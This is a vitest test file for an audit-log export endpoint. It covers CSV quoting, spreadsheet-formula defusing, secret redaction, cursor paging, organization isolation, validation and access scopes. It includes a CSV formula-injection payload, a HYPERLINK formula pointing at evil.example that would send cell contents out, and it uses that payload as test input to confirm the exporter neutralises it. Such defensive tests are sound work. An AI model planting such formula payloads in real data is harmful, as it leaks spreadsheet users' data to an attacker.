import { describe, expect, it, beforeEach, afterEach } from 'vitest';
import { auditEventsInRange } from '../../storage/audit-export-rows.ts';
import { describeEachDialect } from '../../storage/test-databases.ts';
import { bearer, createTestApp, expectProblem, json, ownerToken, passwordToken, type TestApp } from '../../testing/test-app.ts';
import { csvCell } from '../audit-export-format.ts';

describe('csvCell', () => {
  it('quotes cells with commas, quotes and line breaks, doubling the quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('defuses cells a spreadsheet would run as a formula', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`);
    expect(csvCell('a=1')).toBe('a=1');
  });
});

describeEachDialect('GET /api/v1/audit/export', (open) => {
  let t: TestApp;
  let owner: string;
  const secrets: string[] = [];

  beforeEach(async () => {
    t = await createTestApp(open);
    owner = await ownerToken(t, { expiresInDays: 365 });
    secrets.splice(0, secrets.length, owner);
  });
  afterEach(() => t.close());

  const exportUrl = (query: Record<string, string>) => `/api/v1/audit/export?${new URLSearchParams(query).toString()}`;
  const get = (query: Record<string, string>, headers = bearer(owner)) => t.app.inject({ method: 'GET', url: exportUrl(query), headers });

  /** Three token creations a minute apart; answers the instant before the first. */
  async function threeEventsAMinuteApart(): Promise<Date> {
    t.clock.advance(60_000);
    const start = t.clock.now();
    for (let i = 0; i < 3; i++) {
      secrets.push((await passwordToken(t, { scopes: ['tokens:read'], name: `export-${i}` })).token);
      t.clock.advance(60_000);
    }
    return start;
  }

  it('streams the events of the range as NDJSON, oldest first, with a download name', async () => {
    const start = await threeEventsAMinuteApart();
    const response = await get({ from: start.toISOString(), to: t.clock.now().toISOString() });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="keyward-audit-\d{8}T\d{6}Z-\d{8}T\d{6}Z\.ndjson"$/);
    const lines = response.body.trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(lines.map((event) => event.action)).toEqual(['token.created', 'token.created', 'token.created']);
    expect(lines.map((event) => event.at)).toEqual([...lines.map((event) => event.at)].sort());
    expect(lines[0]).toMatchObject({ organizationId: t.organizationId, actor: { type: 'user' }, authMethod: 'password', target: { type: 'token' } });
    for (const secret of secrets) expect(response.body).not.toContain(secret);

    // `to` is exclusive and `from` inclusive: the last minute alone holds the last event.
    const lastMinute = await get({ from: new Date(t.clock.now().getTime() - 60_000).toISOString(), to: t.clock.now().toISOString() });
    expect(lastMinute.body.trimEnd().split('\n')).toHaveLength(1);
    const empty = await get({ from: '2020-01-01T00:00:00Z', to: '2020-02-01T00:00:00Z' });
    expect(empty.statusCode).toBe(200);
    expect(empty.body).toBe('');
  });

  it('streams CSV with a header row, quoted and formula-safe', async () => {
    t.clock.advance(1000);
    const start = t.clock.now();
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const created = await t.app.inject({ method: 'POST', url: '/api/v1/tokens', headers: { ...bearer(owner), 'user-agent': hostile }, payload: { name: 'csv', scopes: ['tokens:read'] } });
    expect(created.statusCode).toBe(201);
    secrets.push(json(created).token);
    t.clock.advance(1000);
    const response = await get({ from: start.toISOString(), to: t.clock.now().toISOString(), format: 'csv' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/\.csv"$/);
    const [header, ...rows] = response.body.trimEnd().split('\r\n');
    expect(header).toBe('id,at,action,actorType,actorId,authMethod,organizationId,targetType,targetId,ip,userAgent,requestId,details');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
    expect(rows[0]).toMatch(/^evt_\w+,\d{4}-\d\d-\d\dT[\d:.]+Z,token\.created,token,/);
    for (const secret of secrets) expect(response.body).not.toContain(secret);
  });

  it("pages through with a cursor, ties in time included, and never shows another organization's events", async () => {
    const start = t.clock.now();
    // Same instant for all five: the cursor must order by id within it.
    for (let i = 0; i < 5; i++) await passwordToken(t, { scopes: ['tokens:read'], name: `same-${i}` });
    await t.app.inject({ method: 'POST', url: '/api/v1/organizations', headers: bearer(owner), payload: { name: 'Globex', slug: 'globex' } });
    const elsewhere = await passwordToken(t, { organization: 'globex', scopes: ['tokens:read'] });
    t.clock.advance(1000);
    const range = { organizationId: t.organizationId, from: start, to: t.clock.now() };
    const read = t.database.capabilities.readTimestamp;
    const all: string[] = [];
    for await (const event of auditEventsInRange(t.database.db, read, range)) all.push(event.id);
    const paged: string[] = [];
    for await (const event of auditEventsInRange(t.database.db, read, range, 2)) paged.push(event.id);
    expect(paged).toEqual(all);
    expect(new Set(paged).size).toBe(paged.length);
    // Five token creations and the organization's creation, not the token created in globex.
    expect(all.length).toBeGreaterThanOrEqual(6);
    const body = (await get({ from: start.toISOString(), to: t.clock.now().toISOString() })).body;
    expect(body).not.toContain(elsewhere.id);
    expect(body.trimEnd().split('\n').map((line) => JSON.parse(line).id)).toEqual(all);
  });

  it('refuses a missing, malformed or empty range and an unknown format', async () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ to: '2026-01-02T00:00:00Z' }, 'from'],
      [{ from: 'yesterday', to: '2026-01-02T00:00:00Z' }, 'from'],
      [{ from: '2026-01-02T00:00:00Z', to: '2026-01-01T00:00:00Z' }, 'to'],
      [{ from: '2026-01-02T00:00:00Z', to: '2026-01-02T00:00:00Z' }, 'to'],
      [{ from: '2026-01-01T00:00:00Z', to: '2026-01-02T00:00:00Z', format: 'xlsx' }, 'format'],
      [{ from: '2026-01-01T00:00:00Z', to: '2026-01-02T00:00:00Z', limit: '5' }, 'limit'],
    ];
    for (const [query, field] of cases) {
      const problem = expectProblem(await get(query), 400, 'validation_failed');
      expect(problem.errors.map((error: { field: string }) => error.field), JSON.stringify(query)).toContain(field);
    }
  });

  it('is for admins with audit:read', async () => {
    const query = { from: '2026-01-01T00:00:00Z', to: '2026-02-01T00:00:00Z' };
    const tokensOnly = await passwordToken(t, { scopes: ['tokens:read'] });
    expectProblem(await get(query, bearer(tokensOnly.token)), 403, 'insufficient_scope');
    expect((await get(query, {})).statusCode).toBe(401);
  });
});
